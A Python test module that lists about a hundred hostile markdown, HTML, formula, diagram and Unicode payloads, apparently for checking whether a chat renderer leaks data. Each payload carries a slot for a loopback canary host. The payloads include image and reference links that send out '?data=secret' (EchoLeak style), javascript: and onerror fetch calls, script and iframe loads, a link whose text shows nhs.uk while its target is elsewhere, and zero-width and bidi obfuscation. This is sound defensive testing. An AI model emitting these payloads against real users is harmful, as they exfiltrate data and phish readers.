"""Hostile texts, each with a `{canary}` slot for a loopback address that must never be asked for anything.

`payloads(canary)` fills the slot. Each payload gets its own path below the canary, so that a hit names its payload.
"""

_BIDI = "\u202e"
_ZERO_WIDTH = "\u200b"

TEMPLATES: dict[str, str] = {
    # Markdown images
    "image": "![a]({canary}/p.png)",
    "image with title": '![a]({canary}/p.png "title")',
    "image in angle brackets": "![a](<{canary}/p.png>)",
    "image without words": "![]({canary}/p.png?q=secret)",
    "image in a link": "[![a]({canary}/p.png)]({canary}/link)",
    "image in bold": "**![a]({canary}/p.png)**",
    "image in a heading": "# ![a]({canary}/p.png)",
    "image in a list": "- ![a]({canary}/p.png)\n  1. ![b]({canary}/q.png)",
    "image in a quote": "> ![a]({canary}/p.png)",
    "image in a table": "| a |\n|---|\n| ![a]({canary}/p.png) |",
    "image after an escape": "\\\\![a]({canary}/p.png)",
    "image of entities": "&#33;&#91;a&#93;&#40;{canary}/p.png&#41; !&#91;a](<{canary}/p.png>)",
    "image across lines": "![a\nb](\n{canary}/p.png\n)",
    "image with upper-case scheme": "![a]({CANARY}/p.png)",
    "image, protocol-relative": "![a]({relative}/p.png)",
    "image with backslashes": "![a](\\\\{host}\\p.png)",
    "image with credentials": "![a](http://user:pass@{host}/p.png)",
    "image with brackets in brackets": "![a[b[c]d]e]({canary}/p.png) ![[[[]({canary}/q.png)]]]",
    "image in a numbered list of nine digits": "1000000000. ```\n             ![a]({canary}/p.png)\n             ```",
    "image behind a code fence in a list": "# h\n2. ```\n   ![a]({canary}/p.png)\n   ```",
    "image between code spans": "`a```b``![a]({canary}/p.png)`",
    "image in a code span in a table": "| a |\n|---|\n| `x\\|![a]({canary}/p.png)` |",
    "image in unclosed code": "`![a]({canary}/p.png)",
    "image in a code fence left open": "```\ntext\n``\n![a]({canary}/p.png)\n````x\n![b]({canary}/q.png)",
    "image in a tilde fence": "~~~~x~~~~\n![a]({canary}/p.png)",
    "image after strikethrough of strikethrough": "~~~~a~~~~ ![a]({canary}/p.png)",
    "image with data address": "![a](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%3E%3Cimage%20href='{canary}/p.png'/%3E%3C/svg%3E)",
    "image by reference": "![a][r]\n\n[r]: {canary}/p.png",
    "image by short reference": "![r]\n\n[r]: <{canary}/p.png> 'title'",
    "image by collapsed reference": "![r][]\n\n[r]: {canary}/p.png",
    "image by reference with odd name": "![a][\u1e9e]\n\n[SS]: {canary}/p.png",
    "image by footnote": "![^1]\n\n[^1]: ![a]({canary}/p.png)",
    # Links and automatic links
    "link": "[click here to see your notes]({canary}/link)",
    "link by reference (EchoLeak)": "[see the report][1]\n\n[1]: {canary}/link?data=secret",
    "image by reference (EchoLeak)": "![logo][logo]\n\n[logo]: {canary}/logo.png?data=secret 'x'",
    "link through a trusted host (EchoLeak)": "![a](https://teams.example/urlp/v1/url/content?url={canary}/p.png)",
    "link with javascript": "[a](javascript:fetch('{canary}/js'))",
    "link with javascript in entities": "[a](&#106;avascript:fetch('{canary}/j')) [b](java&#10;script:x('{canary}'))",
    "link with vbscript": "[a](vbscript:fetch('{canary}/js'))",
    "link with data address": "[a](data:text/html,<script>fetch('{canary}/js')</script>)",
    "automatic link": "<{canary}/auto>",
    "bare address": "see {canary}/bare and www.{host}/bare",
    "bare address of entities": "http&#58;//{host}/bare http&colon;&sol;&sol;{host}/bare",
    "bare address around emphasis": "http*:*//{host}/bare [http](x)://{host}/bare",
    "e-mail address": "mail secret@leak.example or <secret@leak.example>",
    "link that hides its target": "[https://nhs.uk]({canary}/phish)",
    "link with right-to-left override": "[" + _BIDI + "gnp.exe]({canary}/rtl)",
    "link with zero-width characters": "[a" + _ZERO_WIDTH + "](ht" + _ZERO_WIDTH + "tp://{host}/zw)",
    "nested links": "[a [b]({canary}/inner) c]({canary}/outer)",
    "link to the page itself": "[a](#secret) [b](?run=x) [c](/api/health)",
    # HTML
    "html image": "<img src={canary}/p.png>",
    "html image with handler": "<img src=x onerror=\"fetch('{canary}/js')\">",
    "html image with srcset": '<img srcset="{canary}/p.png 1x, {canary}/q.png 2x">',
    "html picture": '<picture><source srcset="{canary}/p.png"><img></picture>',
    "html iframe": '<iframe src="{canary}/frame"></iframe>',
    "html iframe with srcdoc": "<iframe srcdoc=\"<img src='{canary}/p.png'>\"></iframe>",
    "html script": '<script src="{canary}/s.js"></script>',
    "html style import": '<style>@import url("{canary}/s.css");</style>',
    "html style background": "<div style=\"background:url('{canary}/p.png')\">x</div>",
    "html stylesheet": '<link rel="stylesheet" href="{canary}/s.css"><link rel="prefetch" href="{canary}/pre">',
    "html refresh": '<meta http-equiv="refresh" content="0;url={canary}/refresh">',
    "html base": '<base href="{canary}/"><img src="p.png">',
    "html svg": '<svg><image href="{canary}/p.png"/><use href="{canary}/u.svg#x"/></svg>',
    "html svg handler": "<svg onload=\"fetch('{canary}/js')\"></svg>",
    "html video": '<video src="{canary}/v.mp4" poster="{canary}/p.png" autoplay></video>',
    "html audio": '<audio src="{canary}/a.mp3" autoplay></audio>',
    "html object": '<object data="{canary}/o"></object><embed src="{canary}/e">',
    "html form": '<form action="{canary}/form"><button autofocus>ok</button></form>',
    "html input image": '<input type="image" src="{canary}/p.png">',
    "html body background": '<body background="{canary}/p.png">',
    "html table background": '<table background="{canary}/p.png"><tr><td>x</table>',
    "html font face": "<style>@font-face{font-family:x;src:url('{canary}/f.woff')}*{font-family:x}</style>",
    "html mathml": '<math><mtext><img src="{canary}/p.png"></mtext></math>',
    "html in a comment": '<!--><img src="{canary}/p.png">-->',
    "html unclosed": '<img src="{canary}/p.png',
    "html template": '<template><img src="{canary}/p.png"></template><noscript><img src="{canary}/q.png"></noscript>',
    "html with null": '<i\u0000mg src="{canary}/p.png">',
    "html of full-width characters": "\uff1cimg src={canary}/p.png\uff1e",
    "html in a heading": "### <img src={canary}/p.png>",
    # Formulas
    "formula with picture": "$\\includegraphics{{canary}/p.png}$",
    "formula block with picture": "$$\n\\includegraphics[width=1em]{{canary}/p.png}\n$$",
    "formula with link": "$\\href{{canary}/link}{x}$ $\\url{{canary}/u}$",
    "formula with html": "$\\htmlStyle{background:url({canary}/p.png)}{x}$",
    # Streamlit's own words
    "colored text": ":red[![a]({canary}/p.png)] :rainbow[big]",
    "color with style": ':color[x]{foreground="url({canary}/p.png)" background="url({canary}/q.png)"}',
    "badge and size": ":red-badge[Approved by a clinician] :small[x] :blue-background[y] :shimmer[z]",
    "icons": ":material/verified: :material_verified: :streamlit:",
    "emoji": ":white_check_mark: :+1: :smile:",
    "help": ":help[![a]({canary}/p.png)]",
    "directives": "::leaf[a]{style='background:url({canary}/p.png)'}\n\n:::box\n![a]({canary}/p.png)\n:::",
    "diagram": '```mermaid\ngraph TD\n  A["<img src={canary}/p.png>"] --> B\n  click A "{canary}/link"\n```',
    "diagram with style": '```MERMAID\n%%{init: {"themeCSS": "@import url({canary}/s.css)"}}%%\ngraph TD\nA\n```',
    "code fence with html": "```html\n<img src={canary}/p.png>\n```",
    # Unicode
    "right-to-left override": _BIDI + ")gnp.p/{canary}(]a[!",
    "tag characters": "".join(chr(0xE0000 + ord(c)) for c in "![a](x)") + "![a]({canary}/p.png)",
    "other line ends": "a\u2028![a]({canary}/p.png)\u0085![b]({canary}/q.png)\r![c]({canary}/r.png)",
    "entity line ends": "a&#10;&#10;![a]({canary}/p.png)&#13;&#x85;<img src={canary}/p.png>",
    "half a character": "\ud83d![a]({canary}/p.png)",
    "deep quotes": "> " * 60 + "![a]({canary}/p.png)",
    "deep brackets": "[" * 200 + "![a]({canary}/p.png)" + "]({canary}/x)" * 200,
}


def payloads(canary: str) -> dict[str, str]:
    """Every payload by name; `canary` is an address such as `http://127.0.0.1:9999`."""
    host = canary.removeprefix("http://")
    filled = {}
    for number, (name, template) in enumerate(TEMPLATES.items()):
        own = f"{host}/{number}"
        slots = {"{canary}": f"http://{own}", "{CANARY}": f"HTTP://{own}", "{relative}": f"//{own}", "{host}": own}
        for slot, value in slots.items():
            template = template.replace(slot, value)
        filled[name] = template
    return filled
